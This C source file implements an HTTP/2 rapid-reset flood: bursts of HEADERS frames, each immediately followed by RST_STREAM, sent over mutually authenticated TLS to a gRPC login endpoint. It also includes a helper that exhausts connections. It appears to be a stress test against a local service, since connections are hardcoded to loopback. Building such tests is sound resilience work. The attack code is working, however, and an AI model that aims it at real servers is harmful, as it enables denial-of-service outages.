/* SPDX-License-Identifier: Apache-2.0 */
#include "storm.h"
#include <arpa/inet.h>
#include <openssl/ssl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BURST 200U

static int dial(const char *address)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	const char *colon = strrchr(address, ':');
	to.sin_port = htons((uint16_t)strtoul(colon + 1, NULL, 10));
	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	const struct timeval wait = {.tv_sec = 3};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &wait, sizeof(wait));
	if (fd >= 0 && connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
		return fd;
	if (fd >= 0)
		close(fd);
	return -1;
}

static size_t frame(uint8_t *p, uint8_t type, uint8_t flags, uint32_t stream, const void *body, size_t n)
{
	const uint8_t head[9] = {(uint8_t)(n >> 16), (uint8_t)(n >> 8), (uint8_t)n, type, flags, (uint8_t)(stream >> 24),
		(uint8_t)(stream >> 16), (uint8_t)(stream >> 8), (uint8_t)stream};
	memcpy(p, head, sizeof(head));
	if (n)
		memcpy(p + sizeof(head), body, n);
	return sizeof(head) + n;
}

/* HPACK without a table: literal fields, not indexed. */
static size_t literal(uint8_t *p, const char *name, const char *value)
{
	size_t a = strlen(name), b = strlen(value), n = 0;
	p[n++] = 0;
	p[n++] = (uint8_t)a;
	memcpy(p + n, name, a);
	n += a;
	p[n++] = (uint8_t)b;
	memcpy(p + n, value, b);
	return n + b;
}

static size_t headers(uint8_t *p)
{
	size_t n = literal(p, ":method", "POST");
	n += literal(p + n, ":scheme", "https");
	n += literal(p + n, ":path", "/madoguchi.v1.Login/Challenge");
	n += literal(p + n, ":authority", "localhost");
	n += literal(p + n, "te", "trailers");
	return n + literal(p + n, "content-type", "application/grpc");
}

static SSL *shake(SSL_CTX *ctx, const struct storm *s, int fd)
{
	static const unsigned char h2[] = {2, 'h', '2'};
	SSL *ssl = SSL_new(ctx);
	SSL_set_fd(ssl, fd);
	SSL_set_alpn_protos(ssl, h2, sizeof(h2));
	SSL_set_tlsext_host_name(ssl, s->server_name);
	if (SSL_connect(ssl) == 1)
		return ssl;
	SSL_free(ssl);
	return NULL;
}

/* One connection until it is cut or the time is over. */
static void attack(SSL *ssl, struct storm *s, time_t until)
{
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	static uint8_t bytes[BURST * 300], block[256];
	const size_t block_n = headers(block);
	static const uint8_t cancel[4] = {0, 0, 0, 8};
	size_t n = sizeof(preface) - 1;
	memcpy(bytes, preface, n);
	n += frame(bytes + n, 4, 0, 0, NULL, 0);
	for (uint32_t id = 1; time(NULL) < until; n = 0) {
		for (unsigned k = 0; k < BURST; k++, id += 2) {
			n += frame(bytes + n, 1, 4, id, block, block_n); /* HEADERS, END_HEADERS */
			n += frame(bytes + n, 3, 0, id, cancel, 4);      /* RST_STREAM */
		}
		if (SSL_write(ssl, bytes, (int)n) <= 0) {
			s->cut++;
			return;
		}
		s->streams += BURST;
	}
}

void storm_reset(struct storm *s)
{
	const time_t until = time(NULL) + s->seconds;
	SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
	signal(SIGPIPE, SIG_IGN);
	if (!ctx || SSL_CTX_load_verify_locations(ctx, s->ca_file, NULL) != 1 ||
		SSL_CTX_use_certificate_file(ctx, s->cert_file, SSL_FILETYPE_PEM) != 1 ||
		SSL_CTX_use_PrivateKey_file(ctx, s->key_file, SSL_FILETYPE_PEM) != 1) {
		fprintf(stderr, "storm: no keys\n");
		exit(1);
	}
	while (time(NULL) < until) {
		int fd = dial(s->address);
		SSL *ssl = fd >= 0 ? shake(ctx, s, fd) : NULL;
		if (ssl) {
			s->connections++;
			attack(ssl, s, until);
			SSL_free(ssl);
		}
		if (fd >= 0)
			close(fd);
	}
	SSL_CTX_free(ctx);
}

size_t storm_hold(const char *address, size_t n, int *ret)
{
	size_t got = 0;
	while (got < n && (ret[got] = dial(address)) >= 0)
		got++;
	return got;
}
